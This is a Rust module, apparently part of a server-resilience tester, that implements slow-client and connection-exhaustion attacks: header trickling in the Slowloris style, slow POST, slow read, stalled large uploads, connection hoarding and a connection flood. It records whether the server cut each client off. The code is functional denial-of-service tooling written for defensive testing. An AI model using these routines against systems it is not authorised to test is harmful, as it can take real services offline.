//! Owns clients that hold a connection and give or take next to nothing.
//! Leaves what their success means to `attack`.

use std::future::Future;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout_at};

use crate::Plan;
use crate::attack::Seen;

/// Between two bytes of a slow client.
pub(crate) const TRICKLE: Duration = Duration::from_secs(1);

/// Connections are opened over this time, that the listener's queue is not what is tested.
const OPENING: Duration = Duration::from_millis(500);
/// Those that ask the app for something large take longer, that the app's speed is not what is
/// tested either.
const ASKING: Duration = Duration::from_secs(15);

/// Runs one client many times side by side; each says whether the server ended it.
async fn clients<F, C>(count: usize, over: Duration, client: F) -> Seen
where
    F: Fn() -> C,
    C: Future<Output = bool> + Send + 'static,
{
    let mut set = JoinSet::new();
    let pause = over / u32::try_from(count.max(1)).unwrap_or(u32::MAX);
    for _ in 0..count {
        set.spawn(client());
        sleep(pause).await;
    }
    let mut seen = Seen {
        used: count,
        spoken: true,
        ..Seen::default()
    };
    while let Some(ended) = set.join_next().await {
        seen.ended += usize::from(ended.unwrap_or(false));
    }
    seen
}

/// Waits for the server to answer or to close; true when it did before the end.
async fn ended(stream: &mut TcpStream, end: Instant) -> bool {
    let mut sink = [0; 1024];
    // An answer, a close and a reset all free the server of this client.
    timeout_at(end, stream.read(&mut sink)).await.is_ok()
}

/// Sends the beginning, then a byte each second.
async fn trickle(plan: Plan, start: String, byte: u8, end: Instant) -> bool {
    let Ok(mut stream) = plan.target.connect().await else {
        return true;
    };
    if stream.write_all(start.as_bytes()).await.is_err() {
        return true;
    }
    while Instant::now() < end {
        let next = (Instant::now() + TRICKLE).min(end);
        if ended(&mut stream, next).await || stream.write_all(&[byte]).await.is_err() {
            return true;
        }
    }
    false
}

pub(crate) async fn silent(plan: &Plan, time: Duration) -> Seen {
    let end = Instant::now() + time;
    clients(plan.connections, OPENING, || {
        let plan = plan.clone();
        async move {
            match plan.target.connect().await {
                Ok(mut stream) => ended(&mut stream, end).await,
                Err(_) => true,
            }
        }
    })
    .await
}

pub(crate) async fn header(plan: &Plan, time: Duration) -> Seen {
    let end = Instant::now() + time;
    let start = format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\nX-Slow: ",
        plan.target.path(),
        plan.target.host()
    );
    clients(plan.connections, OPENING, || {
        trickle(plan.clone(), start.clone(), b'a', end)
    })
    .await
}

pub(crate) async fn post(plan: &Plan, time: Duration) -> Seen {
    let end = Instant::now() + time;
    let start = format!(
        "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: 65536\r\n\r\n",
        plan.target.path(),
        plan.target.host()
    );
    clients(plan.connections, OPENING, || {
        trickle(plan.clone(), start.clone(), b'a', end)
    })
    .await
}

pub(crate) async fn read(plan: &Plan, time: Duration) -> Seen {
    let end = Instant::now() + time;
    let path = plan.big.clone().unwrap_or_default();
    let request = format!(
        "GET {path} HTTP/1.1\r\nHost: {}\r\n\r\n",
        plan.target.host()
    );
    clients(plan.connections, ASKING, || {
        let (plan, request) = (plan.clone(), request.clone());
        async move {
            let Ok(mut stream) = plan.target.connect_narrow().await else {
                return true;
            };
            if stream.write_all(request.as_bytes()).await.is_err() {
                return true;
            }
            let mut byte = [0; 1];
            while Instant::now() < end {
                match timeout_at(end, stream.read(&mut byte)).await {
                    Ok(Ok(1..)) => sleep(TRICKLE).await,
                    Ok(_) => return true,
                    Err(_) => return false,
                }
            }
            // A reset shows only once what came before it was read.
            let mut sink = vec![0; 64 * 1024];
            let soon = Instant::now() + Duration::from_millis(500);
            loop {
                match timeout_at(soon, stream.read(&mut sink)).await {
                    Ok(Ok(1..)) => {}
                    Ok(Ok(0)) | Err(_) => return false,
                    Ok(Err(_)) => return true,
                }
            }
        }
    })
    .await
}

/// Uploads begin over this time: what comes of them first counts for as long as a rate is averaged.
const SENDING: Duration = Duration::from_secs(3);

/// Bytes that are announced of an upload, and of which so many pieces are sent.
const UPLOAD: usize = 50_000_000;
const PIECE: usize = 64 << 10;
const PIECES: usize = 16;

pub(crate) async fn uploads(plan: &Plan, time: Duration) -> Seen {
    let end = Instant::now() + time;
    let start = format!(
        "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/octet-stream\r\n\
         Content-Length: {UPLOAD}\r\n\r\n",
        plan.target.path(),
        plan.target.host()
    );
    clients(plan.connections, SENDING, || {
        let (plan, start) = (plan.clone(), start.clone());
        async move {
            let Ok(mut stream) = plan.target.connect().await else {
                return true;
            };
            let sending = async {
                stream.write_all(start.as_bytes()).await?;
                let piece = vec![b'a'; PIECE];
                for _ in 0..PIECES {
                    stream.write_all(&piece).await?;
                }
                std::io::Result::Ok(())
            };
            match timeout_at(end, sending).await {
                Ok(Ok(())) => ended(&mut stream, end).await,
                Ok(Err(_)) => true,
                Err(_) => false,
            }
        }
    })
    .await
}

/// One address holds so many times as many connections as there are in other attacks, and at most so many.
const HOARD: usize = 5;
const MOST_HOARDED: usize = 10_000;

pub(crate) async fn hoard(plan: &Plan, time: Duration) -> Seen {
    let end = Instant::now() + time;
    let request = format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\n\r\n",
        plan.target.path(),
        plan.target.host()
    );
    let count = (plan.connections * HOARD).min(MOST_HOARDED);
    clients(count, ASKING, || {
        let (plan, request) = (plan.clone(), request.clone());
        async move {
            let Ok(mut stream) = plan.target.connect_as_another().await else {
                return true;
            };
            if stream.write_all(request.as_bytes()).await.is_err() {
                return true;
            }
            let mut sink = [0; 4096];
            loop {
                match timeout_at(end, stream.read(&mut sink)).await {
                    Ok(Ok(1..)) => {}
                    Ok(_) => return true,
                    Err(_) => return false,
                }
            }
        }
    })
    .await
}

pub(crate) async fn flood(plan: &Plan, time: Duration) -> Seen {
    let end = Instant::now() + time;
    let mut seen = Seen {
        spoken: true,
        ..Seen::default()
    };
    while Instant::now() < end {
        for _ in 0..50 {
            seen.used += 1;
            // Refused or dropped at once by us: either way nothing is left of it.
            drop(plan.target.connect().await);
            seen.ended += 1;
        }
        sleep(Duration::from_millis(20)).await;
    }
    seen
}
